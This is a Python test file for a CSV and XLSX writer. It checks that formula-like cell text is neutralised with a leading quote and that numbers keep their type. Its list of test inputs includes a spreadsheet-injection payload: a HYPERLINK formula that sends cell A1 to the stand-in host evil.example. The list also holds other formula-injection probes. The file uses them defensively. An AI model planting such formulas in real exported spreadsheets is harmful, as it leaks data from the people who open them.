"""The one CSV and XLSX writer: formula-like text is neutralised, numbers stay numbers, and
nothing else changes."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from recoup.lib.spreadsheet import CsvWriter, csv_text, dict_rows, is_formula_like, xlsx_bytes

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "\n=1+1", "\0=1", " =1+1", "\u3000=1", "\uff1d1+1", "-12.50 EUR", "+44 20 7946 0000", "-", "=", "--1"]
PLAIN = ["Northwind Traders", "INV-0042", "2026-03-31", "12%", "'already quoted", "a=b", "C-1", "", "1e5"]
NUMBERS = ["-12.50", "0", "-0.5", "250.50", "-250,50", "1234567", "-1"]


def _read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_quote_in_front(text):
    assert _read(csv_text(["h"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", PLAIN + NUMBERS)
def test_plain_text_and_numbers_are_written_as_they_are(text):
    assert _read(csv_text(["h"], [[text]]))[1] == [text]


def test_values_that_are_not_text():
    rows = _read(csv_text(["a", "b", "c", "d"], [[None, -5, Decimal("-1E+2"), Decimal("-12.50")]]))
    assert rows[1] == ["", "-5", "-100", "-12.50"]


def test_every_field_is_quoted_so_no_other_delimiter_starts_a_cell():
    # A German Excel splits a comma file at semicolons: an unquoted "x;=1+1" would start a formula cell.
    text = csv_text(["name"], [["x;=1+1"], ["y,@SUM(1)"]], delimiter=";")
    assert text == '"name"\r\n"x;=1+1"\r\n"y,@SUM(1)"\r\n'


def test_the_writer_streams_into_any_file_like_object():
    buf = io.StringIO()
    writer = CsvWriter(buf, lineterminator="\n")
    writer.writerow(["=1"])
    writer.writerows([["+2"], ["3"]])
    assert buf.getvalue() == "\"'=1\"\n\"'+2\"\n\"3\"\n"


def test_dict_rows_follow_the_columns_and_refuse_unknown_fields():
    assert dict_rows(["a", "b"], [{"b": "=1"}]) == [["", "=1"]]
    with pytest.raises(ValueError, match="not in the columns: c"):
        dict_rows(["a", "b"], [{"c": "x"}])


@given(st.text())
def test_any_text_reads_back_as_itself_or_quoted_and_never_as_a_formula(text):
    [cell] = _read(csv_text(["h"], [[text]]))[1]
    assert cell == ("'" + text if is_formula_like(text) else text)
    assert not is_formula_like(cell)


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers():
    texts = FORMULAS + PLAIN + ["00123", "-250,50"]
    numbers = [n for n in NUMBERS if "," not in n] + [Decimal("-7.25"), 3]
    data = xlsx_bytes(sheet="risk: a/b", headers=["h"], rows=[[v] for v in texts + numbers])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "risk- a-b"
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=len(texts) + len(numbers) + 1)]
    for value, cell in zip(texts, cells):
        if value == "":
            assert cell.value is None
            continue
        assert cell.data_type == "s" and cell.value == value.replace("\0", "\ufffd"), repr(value)
        assert cell.quotePrefix == (value in FORMULAS), repr(value)
    for value, cell in zip(numbers, cells[len(texts):]):
        assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal(value), repr(value)


def test_xlsx_replaces_control_characters_xml_cannot_hold():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(sheet="s", headers=["h"], rows=[["a\x01b"]]))).active
    assert sheet["A2"].value == "a\ufffdb"
